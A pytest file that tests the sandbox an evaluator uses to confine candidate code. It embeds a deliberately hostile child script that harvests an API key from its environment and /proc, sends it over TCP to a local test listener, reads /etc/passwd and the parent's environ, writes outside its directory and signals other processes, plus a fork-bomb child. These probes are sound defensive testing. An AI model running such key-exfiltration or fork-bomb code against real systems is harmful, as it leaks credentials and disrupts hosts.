"""The runner's sandbox (evaluators/sandbox/), end to end through sandbox_launch.

A hostile Python child (written to tmp_path), launched exactly as the judge launches a Python
stand-in runner (:meth:`evaluators.judge.runner_process.RunnerProcess.start`: the runner's
environment, :func:`~evaluators.sandbox.sandbox_launch`), plays a candidate: it reads its
environment and /proc/self/environ for the LLM key, connects to a TCP server the test runs
on the host's 127.0.0.1, reads its rlimits, writes outside its job directory, signals a
process outside its sandbox, and writes what happened to seen.json for the test to read. Layers the kernel
here does not offer are skipped, never faked; the "namespaces refused" path is exercised by
making the probe fail, and the non-root path (RLIMIT_NPROC, user namespace) by running the
wrapper as ``nobody`` where setpriv and a system Python exist.
"""

from __future__ import annotations

import json
import logging
import os
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from evaluators import sandbox as sb
from evaluators.sandbox import capabilities, launch
from evaluators.sandbox.launch import _rlimits
from evaluators.sandbox.wrapper import _WRAPPER
from fakes.listener import TcpListener  # noqa: E402  (tests/ is on sys.path)
from fakes.sandboxed import Ran, run_sandboxed  # noqa: E402

SECRET = "sk-live-0123456789abcdefghijklmnop"

CHILD = textwrap.dedent(r'''
    import json, os, resource, signal, socket, sys
    from pathlib import Path
    jobdir = Path(sys.argv[1])
    args = json.loads(sys.argv[2])
    seen = {}
    seen["env"] = dict(os.environ)
    seen["proc_environ"] = open("/proc/self/environ", "rb").read().decode("utf-8", "replace")
    port = args.get("port")
    if port:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=3)
            s.sendall(b"leak " + os.environ.get("OPENAI_API_KEY", "none").encode())
            s.close()
            seen["tcp"] = "connected"
        except OSError as e:
            seen["tcp"] = "blocked: %s" % e
    seen["ifaces"] = [n for _, n in socket.if_nameindex()]
    seen["rlimits"] = {n: list(resource.getrlimit(getattr(resource, "RLIMIT_" + n)))
                       for n in ("CPU", "NOFILE", "CORE", "FSIZE", "NPROC")}
    for name, path in (("write_jobdir", jobdir / "tmp" / "x"), ("write_outside", args.get("outside"))):
        if not path:
            continue
        try:
            Path(path).write_text("pwned")
            seen[name] = "ok"
        except OSError as e:
            seen[name] = "blocked: %s" % e
    for name, path in args.get("reads", {}).items():
        try:
            with open(path, "rb") as f:
                f.read(64)
            seen["read_" + name] = "ok"
        except OSError as e:
            seen["read_" + name] = "blocked: %s" % e
    try:   # the CUDA driver writes below /proc/self in cuInit (error 304 when it cannot)
        with open("/proc/self/comm", "w") as f:
            f.write("evo-child")
        seen["write_proc_self"] = "ok"
    except OSError as e:
        seen["write_proc_self"] = "blocked: %s" % e
    victim = args.get("victim")
    if victim:
        try:
            os.kill(victim, signal.SIGTERM)
            seen["kill"] = "sent"
        except OSError as e:
            seen["kill"] = "blocked: %s" % e
    if args.get("spin"):
        while True:
            pass
    (jobdir / "seen.json").write_text(json.dumps(seen))
''')


@pytest.fixture()
def child(tmp_path) -> str:
    p = tmp_path / "hostile_child.py"
    p.write_text(CHILD)
    return str(p)


@pytest.fixture(autouse=True)
def fresh_probe():
    sb.reset_probe()
    yield
    sb.reset_probe()


@pytest.fixture()
def server():
    s = TcpListener()
    yield s
    s.close()


def _run(child, tmp_path, args: dict, timeout_s=30.0, sandbox=None, readable=()) -> Ran:
    jobdir = tmp_path / f"job{len(list(tmp_path.glob('job*')))}"
    return run_sandboxed([sys.executable, child, str(jobdir), json.dumps(args)], jobdir, timeout_s,
                         sandbox, readable=readable)


def _seen(ran: Ran) -> dict:
    assert ran.rc == 0 and ran.seen, (ran.rc, ran.stderr[-2000:])
    return ran.seen


def test_llm_key_never_reaches_the_candidate(child, tmp_path, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("TORCH_LLM_CRED", "abc-" + SECRET[:20])   # allowed prefix, named below
    monkeypatch.setenv("CUDA_NOTE", "copied " + SECRET)          # allowed prefix, carries the value
    monkeypatch.setenv("CUDA_MODULE_LOADING", "LAZY")
    rep = _run(child, tmp_path, {}, sandbox=sb.SandboxSettings(secret_env=("TORCH_LLM_CRED",)))
    seen = _seen(rep)
    env = seen["env"]
    for k in ("OPENAI_API_KEY", "TORCH_LLM_CRED", "CUDA_NOTE"):
        assert k not in env
    assert SECRET not in json.dumps(env) and SECRET not in seen["proc_environ"]
    assert env["CUDA_MODULE_LOADING"] == "LAZY", "the CUDA driver's knobs still pass"
    jobdir = Path(env["TMPDIR"]).parent
    assert env["HOME"] == str(jobdir / "home") and env["XDG_CACHE_HOME"].startswith(str(jobdir))
    assert "env-scrub" in rep.layers


def test_secret_env_names_from_the_environment(monkeypatch):
    monkeypatch.setenv("EVO_SECRET_ENV", "CUDA_MY_LLM, OTHER")
    s = sb.SandboxSettings.from_env()
    assert s.secret_env == ("CUDA_MY_LLM", "OTHER")
    out = sb.scrub_env({"CUDA_MY_LLM": "x", "CUDA_HOME": "/usr/local/cuda", "PATH": "/usr/bin"},
                       extra=s.secret_env, parent={"GPG_KEY_DIR": "/usr/bin"})
    assert out == {"CUDA_HOME": "/usr/local/cuda", "PATH": "/usr/bin"}, "paths are never treated as secrets"


def test_no_network_in_the_child(child, tmp_path, server):
    caps = sb.probe()
    if not caps.netns and caps.landlock_abi < 4:
        pytest.skip("neither network namespaces nor Landlock TCP rules on this kernel")
    rep = _run(child, tmp_path, {"port": server.port})
    seen = _seen(rep)
    assert seen["tcp"].startswith("blocked"), seen["tcp"]
    assert server.got == []
    if caps.netns:
        assert seen["ifaces"] in ([], ["lo"]), "an empty network namespace has no interface but lo"
        assert f"netns({caps.netns})" in rep.layers


def test_control_without_sandbox_the_child_reaches_the_host(child, tmp_path, server, monkeypatch):
    """The same child, sandbox off: proves the network test above tests something."""
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    rep = _run(child, tmp_path, {"port": server.port}, sandbox=sb.SandboxSettings(enabled=False))
    assert _seen(rep)["tcp"] == "connected"
    time.sleep(0.3)
    assert server.got and SECRET.encode() not in server.got[0], "even unsandboxed, the env scrub holds"


def test_namespaces_refused_warns_and_still_runs(child, tmp_path, server, monkeypatch, caplog):
    monkeypatch.setattr(capabilities, "_try_netns", lambda mode: (False, f"{mode}: Operation not permitted (simulated)"))
    with caplog.at_level(logging.WARNING, logger="evaluators.sandbox"):
        rep = _run(child, tmp_path, {"port": server.port})
    warned = [r.getMessage() for r in caplog.records if "network namespaces are not available" in r.getMessage()]
    assert len(warned) == 1 and "simulated" in warned[0]
    seen = _seen(rep)
    assert "netns" not in rep.layers
    assert "NO network namespace" in sb.describe()
    if sb.probe().landlock_abi >= 4:
        assert seen["tcp"].startswith("blocked"), "Landlock still denies TCP without a namespace"
    # a second launch does not probe or warn again
    caplog.clear()
    with caplog.at_level(logging.WARNING, logger="evaluators.sandbox"):
        _run(child, tmp_path, {})
    assert not [r for r in caplog.records if "network namespaces" in r.getMessage()]


def test_rlimits_are_set(child, tmp_path):
    rep = _run(child, tmp_path, {}, timeout_s=45)
    lim = _seen(rep)["rlimits"]
    assert lim["CPU"][0] == 90, "2 x the 45 s wall timeout"
    assert lim["NOFILE"] == [1024, 1024]
    assert lim["CORE"] == [0, 0]
    assert lim["FSIZE"][0] == 1024 * 1024 * 1024
    if os.geteuid() != 0:
        assert lim["NPROC"][0] < 10**6


def test_nproc_is_relative_to_the_users_task_count():
    caps = sb.Capabilities(netns="", landlock_abi=0, is_root=False)
    lims = {r[0]: r[1:] for r in _rlimits(sb.SandboxSettings(nproc_margin=100), 10, caps)}
    n = sb.user_task_count()
    assert abs(lims["RLIMIT_NPROC"][0] - (n + 100)) <= 20
    root = sb.Capabilities(netns="", landlock_abi=0, is_root=True)
    assert "RLIMIT_NPROC" not in {r[0] for r in _rlimits(sb.SandboxSettings(), 10, root)}


def test_cpu_limit_kills_a_spinning_child_before_the_wall_clock(child, tmp_path):
    t0 = time.monotonic()
    rep = _run(child, tmp_path, {"spin": True}, timeout_s=30,
               sandbox=sb.SandboxSettings(cpu_factor=0.0, cpu_min_s=1.0))
    assert rep.rc == -signal.SIGXCPU, (rep.rc, rep.stderr[-500:])
    assert time.monotonic() - t0 < 20


def test_landlock_write_protection(child, tmp_path):
    if sb.probe().landlock_abi < 1:
        pytest.skip("no Landlock in this kernel")
    outside = tmp_path / "outside.txt"
    rep = _run(child, tmp_path, {"outside": str(outside)})   # the default
    seen = _seen(rep)
    assert seen["write_jobdir"] == "ok"
    assert seen["write_proc_self"] == "ok"      # else CUDA cannot initialise (error 304)
    assert seen["write_outside"].startswith("blocked") and not outside.exists()
    assert "fs-writes" in rep.layers
    # switched off (EVO_SANDBOX_LANDLOCK_FS=0), the same child writes there: the control
    rep = _run(child, tmp_path, {"outside": str(outside)}, sandbox=sb.SandboxSettings(landlock_fs=False))
    assert _seen(rep)["write_outside"] == "ok" and "fs-writes" not in rep.layers


def test_landlock_read_protection(child, tmp_path):
    """By default the child reads only what it needs: not /etc/passwd, not another process's
    /proc entry, not files of the project (the DB, configs), not the user's files; it still
    reads its job directory, the libraries it runs on, and a directory given to the launch."""
    if sb.probe().landlock_abi < 1:
        pytest.skip("no Landlock in this kernel")
    root = Path(sb.__file__).resolve().parents[2]
    secret_file = tmp_path / "user-notes.txt"
    secret_file.write_text("private")
    task_dir = tmp_path / "mytasks"
    task_dir.mkdir()
    (task_dir / "task.py").write_text("TASK = 1\n")
    reads = {"passwd": "/etc/passwd", "parent_environ": f"/proc/{os.getpid()}/environ",
             "project_readme": str(root / "README.md"), "user_file": str(secret_file),
             "libc": _libc_path(),
             "task_file": str(task_dir / "task.py")}
    rep = _run(child, tmp_path, {"reads": reads}, readable=[str(task_dir)])
    seen = _seen(rep)
    for name in ("passwd", "parent_environ", "project_readme", "user_file"):
        assert seen["read_" + name].startswith("blocked"), (name, seen["read_" + name])
    for name in ("libc", "task_file"):
        assert seen["read_" + name] == "ok", (name, seen["read_" + name])
    assert "fs-reads" in rep.layers
    # control: reads switched off (EVO_SANDBOX_READS=0), the same reads succeed
    rep = _run(child, tmp_path, {"reads": reads}, readable=[str(task_dir)],
               sandbox=sb.SandboxSettings(landlock_reads=False))
    seen = _seen(rep)
    assert all(seen["read_" + n] == "ok" for n in ("passwd", "project_readme", "user_file")), seen


def _libc_path() -> str:
    with open("/proc/self/maps") as f:
        for line in f:
            if "libc.so" in line or "libc-" in line:
                return line.split()[-1]
    pytest.skip("cannot find libc in /proc/self/maps")


def test_harness_paths_are_derived_not_fixed(tmp_path):
    root = Path(sb.__file__).resolve().parents[2]
    env = {"PYTHONPATH": str(root), "LD_LIBRARY_PATH": "/opt/somelib", "CUDA_MPS_PIPE_DIRECTORY": str(tmp_path)}
    p = sb.harness_paths([sys.executable, str(Path(__file__).parent / "fakes" / "runner_standin.py")], env, tmp_path,
                         readable=["/data/tasks"], writable=["/scratch"])
    assert sys.base_prefix in p["read"] and "/opt/somelib" in p["read"] and "/data/tasks" in p["read"]
    assert str(root) not in p["read"] and str(root) in p["list"], "the project root is listable, not readable"
    assert str(root / "evaluators") in p["read"] and str(root / "evo") in p["read"]
    assert not any(x.startswith("/etc/") and x not in sb.SYSTEM_READABLE for x in p["read"])
    assert "/etc" not in p["read"] and "/home" not in p["read"]
    assert p["write"][:3] == [str(tmp_path), "/dev", "/proc/self"] and "/scratch" in p["write"]
    assert str(tmp_path) in p["write"], "MPS pipe directory (set and present) is writable"


def test_signal_scoping_protects_processes_outside(child, tmp_path):
    if sb.probe().landlock_abi < 6:
        pytest.skip("Landlock signal scoping needs ABI 6")
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        rep = _run(child, tmp_path, {"victim": victim.pid})
        assert _seen(rep)["kill"].startswith("blocked")
        assert victim.poll() is None, "the process outside the sandbox survived"
    finally:
        victim.kill()
        victim.wait()


def test_a_sandbox_setup_failure_stops_before_the_child_runs(child, tmp_path, monkeypatch):
    """The wrapper that cannot confine itself exits 70 naming the layer, and the child never
    runs unconfined (the judge then reports the runner's start as our failure)."""
    monkeypatch.setattr(launch, "probe", lambda: sb.Capabilities(netns="bogus", landlock_abi=0, is_root=True))
    rep = _run(child, tmp_path, {})
    assert rep.rc == 70 and "sandbox setup failed at network namespace" in rep.stderr, rep
    assert rep.seen == {}


_NONROOT_CHILD = r'''
import os, resource, socket, sys, time
kids = 0
try:
    for _ in range(200):
        pid = os.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        kids += 1
except OSError as e:
    pass
print("nproc=%d kids=%d ifaces=%s" % (resource.getrlimit(resource.RLIMIT_NPROC)[0], kids,
      [n for _, n in socket.if_nameindex()]), flush=True)
os.killpg(0, 9)
'''


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists("/usr/bin/python3"),
                    reason="needs root to drop to nobody, setpriv and a system python3")
def test_non_root_path_user_namespace_and_nproc(tmp_path):
    """As an unprivileged user: the network namespace comes from a user namespace, and
    RLIMIT_NPROC (user's tasks + margin) stops a fork bomb."""
    uid = 65534
    n_now = sb.user_task_count(uid)
    cfg = {"jobdir": str(tmp_path), "netns": "userns",
           "rlimits": [["RLIMIT_NPROC", n_now + 20, n_now + 20]]}
    os.chmod(tmp_path, 0o777)
    argv = ["setpriv", f"--reuid={uid}", f"--regid={uid}", "--clear-groups", "/usr/bin/python3", "-I", "-S",
            "-c", _WRAPPER, json.dumps(cfg), "/usr/bin/python3", "-c", _NONROOT_CHILD]
    p = subprocess.run(argv, capture_output=True, text=True, timeout=60, start_new_session=True)
    if "sandbox setup failed at network namespace" in p.stderr:
        pytest.skip(f"unprivileged user namespaces are disabled here: {p.stderr.strip()[-200:]}")
    assert "nproc=" in p.stdout, p.stderr
    kids = int(p.stdout.split("kids=")[1].split()[0])
    assert kids <= 20, f"the fork bomb was not stopped: {p.stdout}"
    assert "ifaces=['lo']" in p.stdout or "ifaces=[]" in p.stdout


def test_nvcc_runs_without_secrets(tmp_path, monkeypatch):
    """The compile subprocess gets a scrubbed environment (no LLM key)."""
    import sys

    from evaluators.compile.nvcc import _run_limited

    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-not-for-nvcc")
    script = tmp_path / "envdump.py"
    script.write_text("import os\nprint('KEY=' + os.environ.get('OPENAI_API_KEY', 'absent'))\n")
    run = _run_limited([sys.executable, str(script)], str(tmp_path), 30, 4096)
    assert run.returncode == 0, run.log
    assert "KEY=absent" in run.log and "sk-test" not in run.log


_DUMPABLE_PARENT = r'''
import importlib.util, os, subprocess, sys
spec = importlib.util.spec_from_file_location("sandbox_copy", sys.argv[1])
sb = importlib.util.module_from_spec(spec); sys.modules["sandbox_copy"] = sb; spec.loader.exec_module(sb)
if sys.argv[2] == "protect":
    assert sb.make_undumpable()
child = "import os\ntry:\n    d = open('/proc/%d/environ' % os.getppid(), 'rb').read()\n" \
        "    print('read', b'sk-parent-only' in d)\nexcept OSError as e:\n    print('blocked', e.errno)\n"
print(subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, env={}).stdout.strip())
'''


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("setpriv") or not os.path.exists("/usr/bin/python3"),
                    reason="needs root to drop to nobody (root reads any /proc), setpriv and a system python3")
@pytest.mark.parametrize("mode,expect", [("protect", "blocked 13"), ("control", "read True")])
def test_an_undumpable_parent_is_not_readable_by_its_child(mode, expect):
    """make_undumpable (called by sandbox_launch in the GPU actor / evo check, and by the
    driver before it starts Ray): a child of the same user cannot read the parent's
    environment. The control (parent left dumpable) can, so the test measures the call."""
    import tempfile

    from evaluators.sandbox import environment

    with tempfile.TemporaryDirectory(dir="/tmp") as d:   # pytest's tmp_path is private to root
        copy = Path(d) / "sandbox_copy.py"
        shutil.copy(environment.__file__, copy)
        os.chmod(d, 0o755)
        os.chmod(copy, 0o644)
        p = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "/usr/bin/python3",
                            "-I", "-S", "-c", _DUMPABLE_PARENT, str(copy), mode],
                           capture_output=True, text=True, timeout=60, cwd="/",
                           env={"PATH": "/usr/bin:/bin", "OPENAI_API_KEY": "sk-parent-only-0123456789abcdef"})
    assert p.stdout.strip() == expect, (p.stdout, p.stderr[-1000:])


def test_sandbox_launch_makes_the_launching_process_undumpable(tmp_path):
    import ctypes

    sb.sandbox_launch(["true"], {}, tmp_path, 10, sb.SandboxSettings(enabled=False))
    assert ctypes.CDLL(None).prctl(3, 0, 0, 0, 0) == 0   # PR_GET_DUMPABLE


def test_secrets_withheld_removes_and_restores(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("PLAIN_NAME", "x" * 20)
    monkeypatch.setenv("CARRIER", "v=" + SECRET)
    monkeypatch.setenv("EVO_SECRET_ENV", "OTHER_ONE")
    monkeypatch.setenv("OTHER_ONE", "o" * 20)
    monkeypatch.setenv("RAY_AUTH_MODE", "token")  # Ray's own settings reach the processes it starts
    with sb.secrets_withheld(("PLAIN_NAME",)) as names:
        assert set(names) == {"OPENAI_API_KEY", "PLAIN_NAME", "CARRIER", "OTHER_ONE"}
        assert not {"OPENAI_API_KEY", "PLAIN_NAME", "CARRIER", "OTHER_ONE"} & set(os.environ)
        assert os.environ["EVO_SECRET_ENV"] == "OTHER_ONE" and os.environ["RAY_AUTH_MODE"] == "token"
    assert os.environ["OPENAI_API_KEY"] == SECRET and os.environ["CARRIER"] == "v=" + SECRET
    assert os.environ["PLAIN_NAME"] == "x" * 20 and os.environ["OTHER_ONE"] == "o" * 20
